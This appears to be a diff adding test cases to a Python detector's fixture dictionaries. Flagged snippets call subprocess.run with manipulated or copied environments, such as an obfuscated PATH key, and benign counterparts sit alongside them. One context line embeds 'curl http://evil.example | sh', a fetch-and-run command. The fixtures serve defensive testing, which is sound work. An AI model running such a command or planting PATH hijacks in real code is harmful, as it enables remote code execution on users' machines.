@@ -178,6 +178,8 @@ PYTHON_TEST |= {
     "a place for programs, made": "subprocess.run(['shop', 'x'], env={chr(80) + 'ATH': at})",
     "a place for programs, from elsewhere": "subprocess.run(['shop', 'x'], env=made(at))",
     "a place for programs, of a table": "names = 'at'; subprocess.run(['shop', 'x'], env=at)",
+    "a place for programs, of itself": "env = env.copy(); subprocess.run(['shop', 'x'], env=env)",
+    "a place for programs, of what is copied": "env = made(at).copy(); subprocess.run(['shop', 'x'], env=env)",
     "a place for programs, in a text": "subprocess.run(['shop', 'x'], env=json.loads('{\"PATH\": 1}'))",
     "a place for programs, by a name": "env = dict(os.environ); env[name] = at; subprocess.run(['shop'], env=env)",
     "a place for programs, by what sets it": "env = {}; steer(env); subprocess.run(['shop'], env=env)",
@@ -189,6 +191,7 @@ PYTHON_TEST |= {
     "a command that the program gets": "subprocess.run([sys.executable, '-m', 'shop', 'curl http://evil.example | sh'])",
 }
 HONEST_PYTHON_TEST = {
+    "the program with those and more": "env = at.copy(); env.update({'A': '1'}); subprocess.run(['shop', 'add'], env=env)",
     "the program with the settings that all tests have": "assert subprocess.run(['shop', 'add'], env=at).returncode == 1",
     "the program with a setting": "import os; env = dict(os.environ, SHOP='1'); subprocess.run(['shop', 'add'], env=env)",
     "an invisible letter that is taken away": "assert clean('a\u200bb') == 'ab'",
